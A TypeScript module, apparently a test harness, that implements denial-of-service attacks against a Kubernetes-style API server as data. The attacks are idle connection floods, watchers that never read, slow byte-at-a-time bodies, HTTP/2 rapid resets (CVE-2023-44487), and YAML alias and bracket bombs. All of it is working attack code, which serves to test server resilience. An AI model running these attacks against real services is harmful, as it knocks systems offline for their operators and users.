// What hostile or broken clients do to a server, as data: each puts its load in place, then goes on with it until it is stopped.
import { once } from 'node:events';
import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2';
import { setTimeout as delay } from 'node:timers/promises';
import { connect as connectTls, type TLSSocket } from 'node:tls';

export interface Target {
  url: string;
  certificateAuthority: string;
  certificate: string;
  key: string;
}

export type Attack = (target: Target, count: number) => Promise<{ goOn(): Promise<void> }>;

/** Somebody with many rights who is not exempt from fairness. */
export const ATTACKER = 'mallory';
const HEADERS = { 'impersonate-user': ATTACKER, accept: 'application/json' };
const MAPS = '/api/v1/namespaces/default/configmaps';
const STREAMS_PER_SESSION = 100;
const AT_ONCE = 50;
const FAT_BYTES = 50_000;
const BODY_BYTES = 1_000_000;
const BOMBS_AT_ONCE = 8;

function session({ url, certificateAuthority: ca, certificate: cert, key }: Target): ClientHttp2Session {
  const session = connectHttp2(url, { ca, cert, key });
  session.on('error', () => {});
  return session;
}

async function tls({ url, certificateAuthority: ca, certificate: cert, key }: Target, protocol: 'h2' | 'http/1.1'): Promise<TLSSocket> {
  const { hostname: host, port } = new URL(url);
  const socket = connectTls({ host, port: Number(port), ca, cert, key, ALPNProtocols: [protocol] });
  await once(socket, 'secureConnect');
  socket.on('error', () => {});
  return socket;
}

/** Some at a time, so that the own process keeps up. */
async function many<T>(count: number, make: (i: number) => Promise<T>): Promise<T[]> {
  const all: T[] = [];
  while (all.length < count)
    all.push(...(await Promise.all(Array.from({ length: Math.min(AT_ONCE, count - all.length) }, (_, i) => make(all.length + i)))));
  return all;
}

async function ask(to: ClientHttp2Session, method: string, path: string, type: string, body?: string): Promise<number> {
  const stream = to.request({ ...HEADERS, ':method': method, ':path': path, 'content-type': type });
  stream.on('error', () => {});
  stream.end(body);
  const [headers] = (await once(stream, 'response')) as [Record<string, number>];
  stream.resume();
  await once(stream, 'close');
  return Number(headers[':status']);
}

const idleConnections: Attack = async (target, count) => {
  await many(count, () => tls(target, 'h2'));
  return { goOn: () => delay(100) };
};

/** Watches whose events nobody takes, and a fat object that changes all the time. */
const deafWatchers: Attack = async (target, count) => {
  const sessions = Array.from({ length: Math.ceil(count / STREAMS_PER_SESSION) }, () => session(target));
  await many(count, async (i) => {
    const stream = sessions[Math.floor(i / STREAMS_PER_SESSION)]!.request({ ...HEADERS, ':path': `${MAPS}?watch=true` });
    stream.on('error', () => {});
    await once(stream, 'response');
    stream.pause();
  });
  const writer = session(target);
  const body = (i: number) => JSON.stringify({ metadata: { name: 'fat' }, data: { text: String(i).padEnd(FAT_BYTES, 'x') } });
  await ask(writer, 'POST', MAPS, 'application/json', body(0));
  let changes = 0;
  return {
    goOn: async () => {
      await ask(writer, 'PATCH', `${MAPS}/fat`, 'application/merge-patch+json', body(++changes));
      await delay(20);
    },
  };
};

/** Bodies that are announced and come a byte at a time. */
const slowBodies: Attack = async (target, count) => {
  const sockets = await many(count, async () => {
    const socket = await tls(target, 'http/1.1');
    const head = [
      'POST /api/v1/namespaces/default/configmaps HTTP/1.1',
      'Host: server',
      `Impersonate-User: ${ATTACKER}`,
      'Content-Type: application/json',
    ];
    socket.write(`${head.join('\r\n')}\r\nContent-Length: ${BODY_BYTES}\r\n\r\n{`);
    socket.resume();
    return socket;
  });
  return {
    goOn: async () => {
      for (const socket of sockets) if (socket.writable) socket.write(' ');
      await delay(1000);
    },
  };
};

/** Requests that are taken back at once (CVE-2023-44487). */
const rapidResets: Attack = async (target, count) => {
  let attacking = session(target);
  return {
    goOn: async () => {
      if (attacking.closed || attacking.destroyed) attacking = session(target);
      for (let i = 0; i < count; i++) {
        const stream = attacking.request({ ...HEADERS, ':path': MAPS });
        stream.on('error', () => {});
        stream.close(constants.NGHTTP2_CANCEL);
      }
      await delay(10);
    },
  };
};

const BOMB = [
  'a: &a [x,x,x,x,x,x,x,x,x]',
  ...'bcdefghijkl'.split('').map((letter, i) => `${letter}: &${letter} [${Array(9).fill(`*${'abcdefghijkl'[i]}`).join(',')}]`),
].join('\n');
const BRACKETS = '['.repeat(400_000);

const yamlBombs: Attack = async (target) => {
  const attacking = session(target);
  return {
    goOn: async () => {
      await Promise.all(
        Array.from({ length: BOMBS_AT_ONCE }, (_, i) => ask(attacking, 'POST', MAPS, 'application/yaml', i % 2 ? BOMB : BRACKETS)),
      );
    },
  };
};

/** With how many of each there are. */
export const ATTACKS: Readonly<Record<string, { attack: Attack; full: number; short: number }>> = {
  'idle connections': { attack: idleConnections, full: 10_000, short: 100 },
  'watchers that never read': { attack: deafWatchers, full: 1000, short: 50 },
  'slow bodies': { attack: slowBodies, full: 500, short: 20 },
  'rapid resets': { attack: rapidResets, full: 500, short: 50 },
  'YAML bombs': { attack: yamlBombs, full: 1, short: 1 },
};
